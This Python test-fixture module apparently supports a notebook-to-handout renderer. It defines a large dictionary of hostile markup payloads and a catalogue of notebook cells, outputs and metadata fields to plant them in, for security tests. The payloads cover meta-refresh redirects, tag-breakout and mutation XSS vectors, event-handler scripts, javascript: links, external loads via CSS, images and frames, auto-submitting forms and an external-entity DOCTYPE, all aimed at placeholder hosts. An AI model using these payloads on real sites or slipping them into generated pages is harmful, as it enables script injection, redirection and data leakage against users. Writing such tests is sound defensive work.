"""What a hostile notebook may hold: markup that acts, and the places that it may stand in."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell, new_notebook, new_output, new_raw_cell

from tests.handout.samples import code, prose, recorded, shown

__all__ = ["EVERYWHERE", "FILE", "MARKUP", "PLACES", "SITE", "TITLE", "lesson_in", "lesson_with"]

FILE = "FILE-OF-THE-TEACHER"
SITE = "SITE-OF-A-STRANGER"
"""These stand for addresses that are known when a test runs."""

REFRESH = f'<meta http-equiv="refresh" content="0;url={FILE}">'

MARKUP = {
    "refresh to a file": REFRESH,
    "refresh to a site": f'<meta http-equiv=refresh content="0;{SITE}">',
    "refresh in capitals": f"<META HTTP-EQUIV='ReFrEsH' CONTENT='0; URL={SITE}'>",
    "refresh with slashes": f"<meta/http-equiv=refresh/content=0;url={SITE}>",
    "refresh after a quote": f'">{REFRESH}',
    "refresh after a single quote": f"'>{REFRESH}",
    "refresh after a picture": f'AAAA" alt="x">{REFRESH}<img alt="',
    "refresh after a comment": f"--><!-- x -->{REFRESH}",
    "refresh after a style": f"</style></script></title>{REFRESH}",
    "refresh after a text area": f"</textarea></noscript></template>{REFRESH}",
    "refresh after all that is open": f"</pre></div></main></div></body></html>{REFRESH}",
    "refresh in a heading's attribute": f'<p title="</h1>{REFRESH}">x</p>',
    "refresh in a picture's text": f"<img alt='>{REFRESH}'>",
    "refresh in what is no element": f"<math><mtext><table><mglyph><style><!--</style>{REFRESH}",
    "refresh in a drawing": f"<svg><desc><div>{REFRESH}</div></desc></svg>",
    "refresh in entities": f"&lt;meta http-equiv=refresh content=&quot;0;url={SITE}&quot;&gt;",
    "refresh in entities twice": f"&amp;lt;meta http-equiv=refresh content='0;{SITE}'&amp;gt;",
    "refresh that is cut": f'<meta http-equiv="refresh" content="0;url={SITE}"',
    "base": f'<base href="{SITE}"><a href="x.html">x</a>',
    "base of frames": f'<base target="_top" href="{FILE}">',
    "picture of a site": f'<img src="{SITE}x.png">',
    "picture of a file": f'<img src="{FILE}">',
    "picture in sets": f'<img srcset="{SITE}x.png 1x"><picture><source srcset="{SITE}y.png">',
    "picture behind data": f'<img src="data:image/png;base64,AAAA&quot; srcset=&quot;{SITE} 1x">',
    "picture that is a page": '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "picture that fails": f"<img src=x onerror=\"location='{SITE}'\">",
    "script": f"<script>location = '{SITE}'</script>",
    "script of a site": f'<script src="{SITE}x.js"></script>',
    "script in a drawing": f"<svg onload=\"location='{SITE}'\"><script>alert(1)</script></svg>",
    "script as an address": "<a href=\"javascript:location='x'\">x</a>",
    "script that is cut": f"<script>location='{SITE}'",
    "style that imports": f'<style>@import "{SITE}x.css"; * {{ background: url({SITE}) }}</style>',
    "style of a site": f'<link rel="stylesheet" href="{SITE}x.css">',
    "style of an element": f'<p style="background: url({SITE}x.png)">x</p>',
    "prefetch": f'<link rel="prefetch" href="{SITE}"><link rel="dns-prefetch" href="{SITE}">',
    "frame of a file": f'<iframe src="{FILE}"></iframe>',
    "frame of a site": f'<iframe src="{SITE}"></iframe><frameset><frame src="{SITE}"></frameset>',
    "frame of a text": f"<iframe srcdoc='{REFRESH}'></iframe>",
    "object": f'<object data="{FILE}"></object><embed src="{FILE}"><applet code="{FILE}"></applet>',
    "film": f'<video src="{SITE}x.mp4" poster="{SITE}x.png" autoplay></video>',
    "sound": f'<audio src="{SITE}x.mp3" autoplay></audio><track src="{SITE}">',
    "form": f'<form action="{SITE}"><input autofocus onfocus="form.submit()"></form>',
    "button": f'<button formaction="{SITE}" autofocus>x</button><isindex action="{SITE}">',
    "background": f'<body background="{SITE}x.png"><table background="{SITE}y.png"><tr><td>x',
    "details": f"<details open ontoggle=\"location='{SITE}'\"><summary>x</summary>x</details>",
    "drawing that uses a site": f'<svg><image href="{SITE}x.png"/><use href="{SITE}#a"/></svg>',
    "drawing that animates": f'<svg><a><set attributeName="href" to="{SITE}"/>x</a></svg>',
    "plain text without end": "<plaintext>",
    "comment without end": "<!-- ",
    "title without end": "<title>",
    "attribute without end": f'<p title="x {REFRESH.replace(chr(34), "")}',
    "selection without end": "<select><option>",
    "null": f"<me\0ta http-equiv=refresh content='0;{SITE}'><scr\0ipt>",
    "a template of Jinja": "{{ resources }}{% include 'page.html.j2' %}",
    "a terminal's colours": f"\x1b[31m{REFRESH}\x1b]8;;{SITE}\x07x\x1b]8;;\x07",
    "a link to a file": f'<a href="{FILE}">x</a><a href="//example.org/">y</a><a href="[">z</a>',
    "a link with a ping": f'<a href="#x" ping="{SITE}" target="_blank" download>x</a>',
    "a speculation": f'<script type="speculationrules">{{"prefetch": [{{"urls": ["{SITE}"]}}]}}',
    "a portal": f'<portal src="{SITE}"></portal><fencedframe src="{SITE}"></fencedframe>',
    "a shadow": f"<div><template shadowrootmode=open>{REFRESH}</template></div>",
    "another namespace": f'<x:meta xmlns:x="http://www.w3.org/1999/xhtml">{REFRESH}</x:meta>',
    "a declaration": f"<?xml-stylesheet href='{SITE}'?><![CDATA[{REFRESH}]]>",
    "a formula that leads away": rf"$\href{{{SITE}}}{{x}}$",
    "a formula with a style": rf"$$\style{{background:url({SITE})}}{{x}}$$",
    "a formula with a tag": rf"$\text{{{REFRESH}}}$ $\unknown{REFRESH}$",
    "a formula in an attribute": '<p title="\n\n$$x$$\n\n"><i class="$x$">y</i>',
    "a place of a formula": '<span class="formula-0"></span><p title="<span class=formula-0>">x',
    "a document type": f"<!DOCTYPE x SYSTEM '{SITE}' [<!ENTITY y SYSTEM '{FILE}'>]>&y;",
}
"""Markup that leads away, loads something, acts, or makes what follows a part of itself."""

Place = Callable[[str], list[NotebookNode]]


def run(*outputs: NotebookNode, **metadata: Any) -> list[NotebookNode]:
    return [code("x", *outputs, **metadata)]


def attached(name: str, kind: str, data: str) -> list[NotebookNode]:
    cell = new_markdown_cell(f"![x](attachment:{name})")
    cell.attachments = {"x.png": {kind: data}}
    return [cell]


def said(line: dict[str, Any], name: str = "x") -> list[NotebookNode]:
    output = recorded([line])
    output.metadata.browser.name = name
    return run(output)


PLACES: dict[str, Place] = {
    "an output of HTML": lambda text: run(shown({"text/html": text})),
    "a picture of pixels": lambda text: run(shown({"image/png": text})),
    "a photograph": lambda text: run(shown({"image/jpeg": text})),
    "a drawing": lambda text: run(shown({"image/svg+xml": text})),
    "a drawing's title": lambda text: run(
        shown({"image/svg+xml": f"<svg><title>{text}</title><desc>{text}</desc></svg>"})
    ),
    "an output of Markdown": lambda text: run(shown({"text/markdown": text})),
    "an output of LaTeX": lambda text: run(shown({"text/latex": f"${text}$ {text}"})),
    "an output of JSON": lambda text: run(shown({"application/json": {text: [text]}})),
    "a moving picture": lambda text: run(shown({"image/gif": text, "text/plain": text})),
    "a picture in its address": lambda text: [prose(f"![x](data:image/svg+xml;utf8,{text})")],
    "a picture's text": lambda text: run(
        shown({"image/png": "AAAA", "text/plain": text}, {"image/png": {"alt": text}})
    ),
    "plain text": lambda text: run(shown({"text/plain": text})),
    "other kinds": lambda text: run(
        shown(
            {
                kind: text
                for kind in (
                    *("text/markdown", "text/latex", "application/javascript", "text/vnd.mermaid"),
                    *("application/pdf", "text/x-unknown", "application/x-html"),
                )
            }
        )
    ),
    "what was printed": lambda text: run(new_output("stream", name="stdout", text=text)),
    "an error": lambda text: run(
        new_output("error", ename=text, evalue=text, traceback=[text, text])
    ),
    "an output's metadata": lambda text: run(
        shown(
            {"text/plain": "x"}, {"diagram": {"lines": [text], "on_the_wire": True, "width": text}}
        )
    ),
    "code": lambda text: [code(text)],
    "the language of a cell": lambda text: run(magics_language=text),
    "a cell's metadata": lambda text: [
        prose("x", html=text, hints=[[text, text]], number=text),
        *run(html=text, long=text, wrong_answers=[[text, text, text]]),
    ],
    "Markdown": lambda text: [prose(text)],
    "Markdown in a line": lambda text: [prose(f"a **b** {text} c")],
    "a block of code": lambda text: [prose(f"```{text}\n{text}\n```\n\n`{text}`")],
    "a diagram": lambda text: [prose(f"```mermaid\n{text}\n```")],
    "mathematics": lambda text: [prose(f"$$ {text} $$ and $ {text} $")],
    "a heading": lambda text: [prose(f"## a {text}")],
    "a table": lambda text: [prose(f"| a | b |\n|---|---|\n| {text} | c |")],
    "a link": lambda text: [prose(f'[x](<{text}> "{text}") [y]({text}) <{text}>')],
    "an address": lambda text: [prose(f"[a]({FILE}) ![b]({FILE}) ![c]({SITE}x.png) {text}")],
    "a picture": lambda text: [prose(f'![{text}](x.png "{text}") ![y]({text})')],
    "an attachment": lambda text: attached("x.png", "image/png", text),
    "an attachment's kind": lambda text: attached("x.png", f"image/{text}", "AAAA"),
    "an attachment's name": lambda text: attached(text, "image/png", "AAAA"),
    "a hint": lambda text: [
        prose(
            f"<details><summary>{text}</summary>\n\n{text}\n\n</details>",
            "hint",
            exercise=text,
        )
    ],
    "a question": lambda text: [prose(text, "predict"), prose(text, "answer")],
    "a note for the teacher": lambda text: [
        prose("## A section", teacher={"minutes": 5, "say": text}),
        prose(f"## {text}", teacher={"minutes": 5, "say": text}),
    ],
    "the name of an exercise": lambda text: [code("x", tags=("solution",), exercise=text)],
    "a raw cell": lambda text: [new_raw_cell(text)],
    "a raw cell of HTML": lambda text: [
        new_raw_cell(text, metadata={"raw_mimetype": kind, "format": kind})
        for kind in ("text/html", "", "text/markdown")
    ],
    "a recorded console": lambda text: said({"kind": "log", "text": text}),
    "a recorded error": lambda text: said(
        {"kind": "uncaught", "text": text, "line": 1, "own": [text]}
    ),
    "a recorded message": lambda text: said({"kind": "sent", "text": text, "socket": 1}, text),
}
"""Where a notebook may hold a text of somebody's, as cells."""


TITLE = "the title"

EVERYWHERE = (*PLACES, TITLE)
"""All places, with the one that is no cell of its own."""


def lesson_in(texts: Mapping[str, str]) -> NotebookNode:
    """Return a lesson with a text in each of some places."""
    cells = [
        cell for place, text in texts.items() if place != TITLE for cell in PLACES[place](text)
    ]
    return lesson_with(cells, texts.get(TITLE, "x"))


def lesson_with(cells: list[NotebookNode], title: str = "x") -> NotebookNode:
    """Return a lesson that has some cells between two harmless ones."""
    before = [prose(f"# {title}"), code("1", shown({"text/plain": "1"}))]
    notebook = new_notebook(cells=[*before, *cells, prose("The *end*.")])
    for number, cell in enumerate(notebook.cells):
        cell.id = f"cell-{number}"
        if cell.cell_type == "code":
            cell.execution_count = number + 1
    return notebook
